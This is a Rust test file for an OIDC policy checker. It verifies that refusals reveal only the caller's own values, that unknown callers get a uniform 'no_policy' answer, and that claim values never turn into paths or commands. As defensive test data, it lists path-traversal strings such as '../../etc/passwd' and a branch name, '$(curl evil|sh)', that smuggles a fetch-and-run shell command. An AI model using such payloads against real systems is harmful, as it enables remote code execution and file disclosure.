//! P27 to P29: what a refusal tells, and what a claim can become.

use crate::support::claims::{github, gitlab};
use crate::support::decision::*;
use crate::support::requests::{self, read, with};
use lpm_core::decision::explain;
use lpm_core::failure::Code;
use serde_json::{Value, json};

/// The catalogue gives a caller the reason alone; here it also hears its own value, and never an allowed one.
#[test]
fn p27_a_refusal_names_the_callers_value_and_never_an_allowed_one() {
    let called = "hidden-org/hidden-ci/.github/workflows/hidden.yml@refs/tags/hidden";
    let hidden = || {
        changed(
            github_policy(),
            json!({
                "allowedBranches": ["main", "hidden-branch"], "allowedEnvironments": ["production", "hidden-env"],
                "allowedTags": ["hidden-tag"], "allowedEvents": ["push", "hidden_event"]
            }),
        )
    };
    let pin = |id: &str, owner: &str| one("pin", json!({ "id": id, "owner_id": owner }));
    let none = || json!({});
    // (code, claims, policy, row, facts, what the caller reads of its own)
    let cases: Vec<(Code, Value, Value, Value, Value, &str)> = vec![
        (Code::IdentityChanged, none(), none(), pin("777777777", "888888888"), none(), "456789"),
        (Code::OwnerChanged, none(), none(), pin("456789", "888888888"), none(), "123456"),
        (Code::EventNotAllowed, one("event_name", "release"), none(), none(), none(), "release"),
        (Code::ForkNotAllowed, one("head_ref", "evil"), none(), none(), none(), "evil"),
        (Code::BranchNotAllowed, one("ref", "refs/heads/evil"), none(), none(), none(), "evil"),
        (
            Code::TagNotAllowed,
            json!({ "ref": "refs/tags/evil", "ref_type": "tag" }),
            none(),
            none(),
            none(),
            "evil",
        ),
        (Code::RefNotAllowed, one("ref", "refs/pull/7/merge"), none(), none(), none(), "refs/pull/7/merge"),
        (Code::EnvironmentNotAllowed, none(), none(), none(), one("environment", "evil"), "evil"),
        (
            Code::CiEnvironmentNotAllowed,
            none(),
            one("ciEnvironment", "hidden-ci"),
            none(),
            none(),
            "production",
        ),
        (
            Code::WorkflowNotAllowed,
            none(),
            one("workflow", ".github/workflows/hidden.yml"),
            none(),
            none(),
            "deploy.yml",
        ),
        (
            Code::ReusableWorkflowNotAllowed,
            none(),
            one("reusableWorkflow", called),
            none(),
            none(),
            "release.yml",
        ),
        (
            Code::RefNotProtected,
            one("ref_protected", "false"),
            one("protectedRefOnly", true),
            none(),
            none(),
            "main",
        ),
        (
            Code::RunnerNotAllowed,
            one("runner_environment", "evil-hosted"),
            one("runner", "self-hosted"),
            none(),
            none(),
            "evil-hosted",
        ),
        (
            Code::AudienceNotAllowed,
            none(),
            one("audience", "https://hidden.example"),
            none(),
            none(),
            "https://lpm.dev",
        ),
    ];
    let secrets = ["hidden", "777777777", "888888888", "self-hosted"];
    for (code, claims, policy, row, asked, shown) in cases {
        let claims = claims_with(github(), &claims);
        let policy = changed(hidden(), policy);
        // Policies of others beside it, all of which know something.
        let others = [
            changed(
                candidate(2, changed(hidden(), one("subject", "repo:hidden-org/hidden-repo"))),
                row.clone(),
            ),
            candidate(3, changed(gitlab_policy(), one("subject", "project:hidden-group/hidden"))),
        ];
        let candidates = [vec![changed(candidate(1, policy), row)], others.to_vec()].concat();
        let facts = facts(changed(facts_of(candidates), asked));
        let failure = outcome(&claims.claims(), &facts).outcome.unwrap_err();
        assert_eq!(failure.code, code, "P27: {failure}");
        let body = failure.body();
        assert!(body.contains(shown), "P27: {code:?} shows `{shown}`: {body}");
        for secret in secrets {
            assert!(!body.contains(secret), "P27: {code:?} shows `{secret}`: {body}");
        }
        // The owner sees what was expected.
        let rows = explain(&claims.claims(), &facts);
        let expected: String = rows.iter().map(|row| row.expected.as_str()).collect();
        assert!(expected.contains("hidden"), "P27: {code:?}: {expected}");
    }
}

#[test]
fn p28_a_stranger_gets_one_answer_whatever_the_vault_is() {
    let claims = github().claims();
    let nobody = outcome(&claims, &facts(facts_of(vec![])));
    let elsewhere = |n: u128, subject: &str| candidate(n, changed(github_policy(), one("subject", subject)));
    for (case, candidates) in [
        ("another repository's", vec![elsewhere(1, "repo:octo-org/other")]),
        ("another provider's", vec![candidate(1, gitlab_policy())]),
        (
            "another issuer's",
            vec![candidate(1, changed(github_policy(), one("issuer", "https://ghes.example.com")))],
        ),
        ("of a free account", vec![changed(elsewhere(1, "repo:x/y"), one("plan", "free"))]),
        ("without escrow", vec![changed(elsewhere(1, "repo:x/y"), one("escrow", Value::Null))]),
        ("never pushed", vec![changed(elsewhere(1, "repo:x/y"), one("version", 0))]),
        ("whose key is not loaded", vec![changed(elsewhere(1, "repo:x/y"), one("escrow_key_loaded", false))]),
        ("whose last push left CI out", vec![changed(elsewhere(1, "repo:x/y"), one("escrow_copy", false))]),
        (
            "of another environment",
            vec![candidate(
                1,
                changed(github_policy(), json!({ "subject": "repo:x/y", "allowedEnvironments": ["other"] })),
            )],
        ),
        ("many", vec![elsewhere(1, "repo:x/y"), elsewhere(2, "repo:x/z"), candidate(3, gitlab_policy())]),
    ] {
        let verdict = outcome(&claims, &facts(facts_of(candidates)));
        assert_eq!(verdict, nobody, "P28: a vault with a policy {case}");
    }
    assert!(nobody.counted && nobody.policy.is_none(), "P28: counted, and no policy is named");
    let failure = nobody.outcome.unwrap_err();
    assert_eq!((failure.code, failure.code.status()), (Code::NoPolicy, 403), "P28");
    insta::assert_snapshot!(failure.body(), @r#"{"error":"no OIDC policy of this vault allows repo:octo-org/octo-repo","code":"no_policy","hint":"on a machine that has the vault: `lpm env oidc allow --provider=github --repo=octo-org/octo-repo --env=production` (published 0.28: `lpm use vars oidc allow … --repo=…`)"}"#);
    let on_gitlab = outcome(&gitlab().claims(), &facts(facts_of(vec![]))).outcome.unwrap_err();
    assert!(
        on_gitlab.hint().contains("--provider=gitlab --project=my-group/my-project "),
        "P28: {}",
        on_gitlab.hint()
    );
}

#[test]
fn p29_a_claim_becomes_no_path_and_no_command() {
    let branch = |name: &str| github().with("ref", format!("refs/heads/{name}"));
    let every = || changed(github_policy(), json!({ "allowedBranches": [], "allowedEnvironments": [] }));
    for name in [
        "../admin",
        "../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "a/../main",
        "%2e%2e/admin",
        "main/",
        "./main",
        "main\\..\\x",
    ] {
        assert_eq!(
            word(&decided(&branch(name), github_policy(), json!({}), json!({}))),
            "branch_not_allowed",
            "P29: {name}"
        );
        // Asked for as an environment, such a name is looked up as it is, if at all.
        let grant = decided(&github(), every(), json!({}), one("environment", name)).outcome.unwrap();
        assert_eq!(grant.environments, [name], "P29: {name} as an environment");
        let alias = one("env_config", json!({ "prod": { "canonical": name } }));
        let verdict = decided(&github(), github_policy(), alias, one("environment", "prod"));
        assert_eq!(word(&verdict), "environment_not_allowed", "P29: {name} as an alias' target");
    }
    for (field, value) in [
        ("subject", "repo:../admin"),
        ("subject", "repo:acme/.."),
        ("subject", "repo:./admin"),
        ("allowedEnvironments", "../admin"),
        ("workflow", "../admin.yml"),
        ("reusableWorkflow", "../admin/.github/workflows/x.yml@refs/tags/v1"),
        ("subject", "repo:{{repository_owner}}/web"),
        ("subject", "repo:acme/${ref}"),
        ("allowedEnvironments", "{{ref}}"),
    ] {
        let value = if field == "allowedEnvironments" { json!([value]) } else { json!(value) };
        let failure = read(&with(&[(field, value.clone())])).expect_err(field);
        assert!(failure.text().starts_with(&format!("the policy's `{field}` ")), "P29: {value}: {failure}");
    }
    for path in ["project:group/../admin", "project:../admin", "project:./x"] {
        let body = requests::changed(requests::gitlab(), &[("subject", json!(path))]);
        read(&body).expect_err(path);
    }
    // What looks like a template in a policy is a text like any other.
    run_table(
        github,
        github_policy,
        vec![
            (
                "P29: a template as a branch",
                json!({}),
                one("allowedBranches", json!(["{{ref}}"])),
                "branch_not_allowed",
            ),
            (
                "P29: a template as an environment",
                json!({}),
                one("ciEnvironment", "{{environment}}"),
                "ci_environment_not_allowed",
            ),
        ],
    );
    let evil =
        decided(&branch("$(curl evil|sh)"), github_policy(), json!({}), json!({})).outcome.unwrap_err();
    assert!(evil.hint().contains("--branch='$(curl evil|sh)'"), "P29: {}", evil.hint());
}
